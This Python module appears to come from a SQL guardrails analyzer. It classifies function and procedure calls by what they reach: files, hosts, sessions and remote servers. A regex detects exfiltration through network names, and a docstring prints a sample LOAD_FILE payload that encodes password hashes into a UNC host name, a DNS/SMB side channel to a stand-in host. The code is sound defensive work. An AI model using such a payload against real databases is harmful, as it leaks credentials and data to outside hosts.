"""Functions and procedures by registry: what a call reaches (files, hosts, sessions, other
servers)."""

from __future__ import annotations

import re

from sqlglot import exp
from sqlglot.tokenizer_core import Token, TokenType

from guardrails_core.dialects import dialect_for_connection_type
from guardrails_core.intent.constant_folding import constant
from guardrails_core.intent.shell_registry import names_credential, names_setting
from guardrails_core.intent.sql.dialects import MAX_DEPTH, A, I, K
from guardrails_core.intent.sql.function_rules import (
    FunctionRule,
    builtin_functions,
    function_registry,
)
from guardrails_core.intent.sql.own_hosts import (
    OWN_HOST,
    loopback_conninfo,
    own_network_url,
)
from guardrails_core.intent.sql.own_sessions import own_sessions_only
from guardrails_core.intent.sql.sequence_positions import past_every_key
from guardrails_core.intent.sql.settings import judge_setting
from guardrails_core.intent.sql.statement import (
    _first_string_argument,
    _function_name,
    _Statement,
    analyze_nested,
)
from guardrails_core.model import Intent


def _dynamic_text(
    statement: _Statement, literal: str | None, what: str, *, in_scope: bool = False
) -> None:
    """Literal dynamic SQL is analysed and reported for what it contains; anything built at run
    time is opaque and reported as `dynamic`. `in_scope`: the text is a statement of the script
    itself (behind a block word), which reads the script's variables."""
    if literal is None:
        statement.add(I.DYNAMIC, f"{what} runs SQL built at run time; it cannot be checked here")
        return
    if statement.depth >= MAX_DEPTH:
        statement.add(I.DYNAMIC, f"{what} nests dynamic SQL deeper than {MAX_DEPTH} levels")
        statement.add(I.UNPARSEABLE, "dynamic SQL nested too deeply to analyse")
        return
    inner = analyze_nested(
        literal,
        statement.dialect_name,
        depth=statement.depth + 1,
        default_schema=statement.names.default_schema,
        default_catalog=statement.names.default_catalog,
        variables=statement.constants if in_scope else None,
    )
    statement.embed(inner)
    if not inner:
        statement.add(I.DYNAMIC, f"{what} with an empty text")


# --------------------------------------------------------------------------- functions
# The registry is data: rules/sql_functions.yaml, loaded by function_rules.py.


# Functions sqlglot parses into classes of their own that the registry still has to judge:
# DuckDB's secret(), BigQuery's AI and ML functions over remote models.
PARSED_REGISTRY_FUNCTIONS: tuple[type[exp.Func], ...] = (
    exp.Secret,
    exp.AIGenerate,
    exp.GenerateText,
    exp.GenerateEmbedding,
    exp.GenerateTable,
    exp.GenerateBool,
    exp.GenerateInt,
    exp.GenerateDouble,
    exp.MLTranslate,
)


# Schemas that qualify ordinary functions (pg_catalog.lower(x)); not packages with effects.
_SCHEMAS = frozenset({"", "pg_catalog", "information_schema", "sys", "dbo", "public", "main"})


def _check_function(statement: _Statement, node: exp.Expr) -> None:
    registry = function_registry()
    name = _function_name(node)
    rule = registry.functions.get(name)
    parent = node.parent
    package = ""
    if isinstance(parent, exp.Dot) and parent.expression is node:
        # SYS.DBMS_X.F(...) and DBMS_X.F(...): the package is the part right before the call.
        owner = parent.this.expression if isinstance(parent.this, exp.Dot) else parent.this
        package = owner.name.lower() if isinstance(owner, exp.Expr) else ""
        if rule is None:
            rule = registry.functions.get(f"{package}.{name}") or registry.packages.get(package)
    if name == "set_config":
        arguments = list(node.iter_expressions())
        setting = arguments[0] if arguments else None
        value = arguments[1] if len(arguments) > 1 else None
        judge_setting(
            statement,
            str(setting.this) if isinstance(setting, exp.Literal) else "",
            str(value.this) if isinstance(value, exp.Literal) else None,
            verb="set_config()",
        )
        return
    if (
        rule is None
        and isinstance(node, exp.Anonymous)
        and name.startswith(registry.system_namespaces)
        and not registry.system_reads.match(name)
    ):
        statement.add(
            I.UNKNOWN,
            f"{name}() is a system function the analyzer has no record of: its effect is unknown",
        )
        return
    if (
        rule is None
        and package not in _SCHEMAS
        and f"{package}.{name}" not in statement.routines  # pg_temp.f the script created
        and package.startswith(registry.system_namespaces)
        and not registry.system_reads.match(f"{package}.{name}")
    ):
        statement.add(
            I.UNKNOWN,
            f"{package}.{name}() is in a system package the analyzer has no record of: "
            "its effect is unknown",
        )
        return
    if rule is not None and not rule.applies(
        ", ".join(argument.sql() for argument in node.iter_expressions())
    ):
        rule = registry.packages.get(package)  # the package's row judges the other calls
        if rule is None:
            return  # duckdb_secrets() redacts unless told not to
    if rule is not None and rule.passthrough and _passthrough(statement, node, parent):
        return
    if rule is not None and rule.own_sessions and own_sessions_only(node):
        return
    if rule is not None and rule.position_argument and _moved_past_every_key(node, rule):
        return
    if rule is not None:
        strings = [  # `$$...$$` (pg_cron's job body) is a string too
            arg.this
            for arg in node.iter_expressions()
            if (isinstance(arg, exp.Literal) and arg.is_string) or isinstance(arg, exp.RawString)
        ]
        if I.HOST_ACCESS in rule.intents and _network_name_from_data(node):
            statement.add(
                I.EXPORT,
                f"{name}(): builds a host name or network path from query data: resolving it "
                "carries the data out (a DNS or SMB side channel)",
            )
        # the name as the call receives it (`'SNOWFLAKE_' || 'PASSWORD'` folded)
        named = constant(next(node.iter_expressions(), None))
        if rule.credential_argument and isinstance(named, str) and names_setting(named):
            statement.add(I.READ, f"{name}(): {named} holds a setting of the process, no secret")
            return
        if _in_own_network(rule, node):
            where = "this machine" if rule.own_network == "conninfo" else OWN_HOST
            statement.add(I.READ, f"{name}(): reads from {where}")
        else:
            for intent in rule.intents:
                statement.add(intent, f"{name}(): {rule.message}")
        first = next(node.iter_expressions(), None)
        if rule.argument is not None and (strings or first is not None):
            # a name computed at run time (`setval(pg_get_serial_sequence(...), 1)`) as written
            statement.obj(
                *rule.argument, str(strings[0]) if strings else str(first and first.sql())
            )
        if rule.credential_argument and isinstance(named, str) and names_credential(named):
            statement.add(I.PRIVILEGE, f"{name}(): {named} is named as a credential")
        if rule.runs_sql_argument:
            _runs_sql_argument(statement, node, name, rule, strings)
        return
    if name in registry.sql_text:
        _dynamic_text(statement, _first_string_argument(node), f"{name}()")
    elif isinstance(node, exp.Anonymous) and _called_for_effect(statement, node, name):
        qualified = f"{package}.{name}" if package else name
        statement.obj(K.FUNCTION, A.EXECUTE, qualified)
        statement.add(
            I.DYNAMIC,
            f"{qualified}() is a user-defined function called on no row's values: in "
            f"{statement.dialect_name} a function can change data, so this is a CALL whose "
            "body is not visible here",
        )


def _moved_past_every_key(node: exp.Expr, rule: FunctionRule) -> bool:
    """The position a call sets lies past every key a table holds (sequence_positions)."""
    arguments = list(node.iter_expressions())
    position = rule.position_argument or 0
    if len(arguments) < position:
        return False
    value = arguments[position - 1]
    select = node.find_ancestor(exp.Select)
    if select is not None and select.args.get("where") and value.find(exp.Subquery) is None:
        return False  # `SELECT setval('s', max(id)) FROM t WHERE ...`: the max of some rows
    return past_every_key(value)


def _runs_sql_argument(
    statement: _Statement, node: exp.Expr, name: str, rule: FunctionRule, strings: list[object]
) -> None:
    """The SQL text the call runs, analysed when written out (`strings`: its string arguments).
    Its dialect is unknown (dblink's remote SQL, pg_cron's job), so it is read as PostgreSQL."""
    text = strings[-1] if len(strings) >= 2 else None
    if rule.sql_argument is not None:
        arguments = list(node.iter_expressions())
        chosen = arguments[rule.sql_argument - 1] if len(arguments) >= rule.sql_argument else None
        if isinstance(chosen, exp.Null):
            return  # cron.alter_job(id, schedule, NULL, ...) keeps the job's command
        written = isinstance(chosen, exp.RawString) or (
            isinstance(chosen, exp.Literal) and chosen.is_string
        )
        text = chosen.this if written and chosen is not None else None
    if text is not None and statement.depth < MAX_DEPTH:
        statement.embed(analyze_nested(str(text), "postgres", depth=statement.depth + 1))
    else:
        _computed_remote_sql(statement, node, name)


# A literal piece of a host name or network path: a UNC prefix (\\\\), a URL scheme, or a
# domain suffix (`.k.example.net`, `.r.oastify.com\\x`).
_NETWORK_PIECE = re.compile(r"(?i)^\\\\|://|^\.(?:[a-z0-9-]+\.)+[a-z]{2,}(?:[\\/:]|$)")


def _network_name_from_data(node: exp.Expr) -> bool:
    """An argument that joins query data (a column, a subquery) with a piece of a host name or
    network path: `LOAD_FILE(CONCAT('\\\\', (SELECT hex(pw) ...), '.x.net\\a'))`."""
    for argument in node.iter_expressions():
        parts = list(argument.walk())
        if any(isinstance(part, exp.Column | exp.Subquery | exp.Select) for part in parts) and any(
            isinstance(part, exp.Literal) and part.is_string and _NETWORK_PIECE.search(part.this)
            for part in parts
        ):
            return True
    return False


def _in_own_network(rule: FunctionRule, node: exp.Expr) -> bool:
    """The call's first argument is a literal URL or connection string naming a host of the
    organisation's own network (`dblink('host=localhost ...', 'SELECT ...')`)."""
    first = next(iter(node.iter_expressions()), None)
    if rule.own_network is None or not isinstance(first, exp.Literal) or not first.is_string:
        return False
    if rule.own_network == "conninfo":
        return loopback_conninfo(first.this)
    # the URL alone: a further argument may name a proxy the request goes through instead
    return len(node.expressions or node.args.get("expressions") or [first]) == 1 and (
        own_network_url(first.this)
    )


def _computed_remote_sql(statement: _Statement, node: exp.Expr, name: str) -> None:
    """dblink_exec('conn', 'INSERT ... ' || (SELECT ...)): SQL text built at run time, and when
    a query of this database builds it, that query's rows travel to the other server."""
    arguments = list(node.iter_expressions())
    text = arguments[-1] if arguments else None
    if text is None or (isinstance(text, exp.Literal) and text.is_string):
        return
    statement.add(I.DYNAMIC, f"{name}() runs SQL text built at run time on another server")
    if text.find(exp.Select) is not None:
        statement.add(I.EXPORT, f"{name}() sends the rows of a local query inside that text")


def _passthrough(statement: _Statement, node: exp.Expr, parent: exp.Expr | None) -> bool:
    """`postgresql.system.query(query => 'SELECT ...')`: the literal text, analysed in the
    dialect the catalog's name gives (False when there is no literal or no known dialect)."""
    owner = parent.this if isinstance(parent, exp.Dot) else None
    catalog = owner.this.name.lower() if isinstance(owner, exp.Dot) else ""
    texts = [
        value.this
        for argument in node.iter_expressions()
        for value in [argument.expression if isinstance(argument, exp.Kwarg) else argument]
        if isinstance(value, exp.Literal) and value.is_string
    ]
    return passthrough_text(statement, catalog, texts)


def passthrough_text(statement: _Statement, catalog: str, texts: list[str]) -> bool:
    """Analyse the one literal SQL text a pass-through call sends to the database its catalog
    connects to, in that database's dialect (or read in any dialect's reading when the catalog
    names none: then False, the call's own intents still to be named)."""
    dialect = dialect_for_connection_type(catalog) if catalog else None
    if len(texts) != 1 or statement.depth >= MAX_DEPTH:
        return False
    inner = analyze_nested(texts[0], dialect, depth=statement.depth + 1, default_catalog=catalog)
    statement.embed(inner)
    # A catalog name that gives no dialect (`pg.system.execute`): what the text does in any
    # dialect is named beside the call's own intents (the server it runs on is not known).
    return dialect is not None and bool(inner)


def _called_for_effect(statement: _Statement, node: exp.Expr, name: str) -> bool:
    """A user-defined function (in none of the dialect's built-ins) whose arguments read no
    column: `SELECT purge_old_orders()`, `SELECT f(42) FROM t` run it for what it does, not to
    compute a value from a row (`SELECT calc_tax(total) FROM orders` is left as a read)."""
    builtins = builtin_functions(statement.dialect_name)
    if builtins is None or name in builtins or name in statement.routines:
        return False
    if node.find_ancestor(exp.Hint) is not None:
        return False  # an optimizer hint (/*+ MAX_EXECUTION_TIME(1000) */) calls nothing
    return not any(
        isinstance(part, exp.Column)
        for argument in node.iter_expressions()
        for part in argument.walk()
    )


def written_arguments(tokens: list[Token]) -> str:
    """A call's arguments from its opening parenthesis on, as SQL (strings quoted again), for
    a registry row's `when_arguments`."""
    opening = next((i for i, t in enumerate(tokens) if t.token_type is TokenType.L_PAREN), None)
    if opening is None:
        return ""
    return " ".join(
        f"'{t.text}'" if t.token_type is TokenType.STRING else t.text for t in tokens[opening:]
    )


def known_procedure(words: list[str]) -> FunctionRule | None:
    """A CALL's procedure by its last three, two or one name parts (`BQ.JOBS.CANCEL`;
    `hive.system.sync_partition_metadata` is `system.sync_partition_metadata`;
    `"SYSTEM$SEND_EMAIL"`), if the registry has it. The opening parenthesis ends the name."""
    parts: list[str] = []
    for word in words:
        if not word.replace("_", "").replace("$", "").isalnum():
            break
        parts.append(word.strip('"`').lower())
    functions = function_registry().functions
    for size in (3, 2, 1):
        rule = functions.get(".".join(parts[-size:])) if len(parts) >= size else None
        if rule is not None:
            return rule
    return None


# A string argument kept as written in a call's argument text (an interval's `'7 days'`); any
# other string is `'?'`, so text inside it cannot pass for an argument.
_PLAIN_STRING = re.compile(r"[\w .:-]*")


def procedure_intents(rule: FunctionRule, tokens: list[Token]) -> tuple[Intent, ...]:
    """The intents of a call of `rule` (the CALL's tokens): without mass_mutation when its
    arguments keep what the row's `bounded_when` says (`retain_last => 50`)."""
    opening = next((i for i, t in enumerate(tokens) if t.token_type is TokenType.L_PAREN), None)
    if rule.bounded_when is None or opening is None:
        return rule.intents
    written = " ".join(
        (f"'{t.text}'" if _PLAIN_STRING.fullmatch(t.text) else "'?'")
        if t.token_type is TokenType.STRING
        else t.text
        for t in tokens[opening + 1 :]
    ).lower()
    if not rule.bounded_when.search(written):
        return rule.intents
    return tuple(intent for intent in rule.intents if intent is not I.MASS_MUTATION)
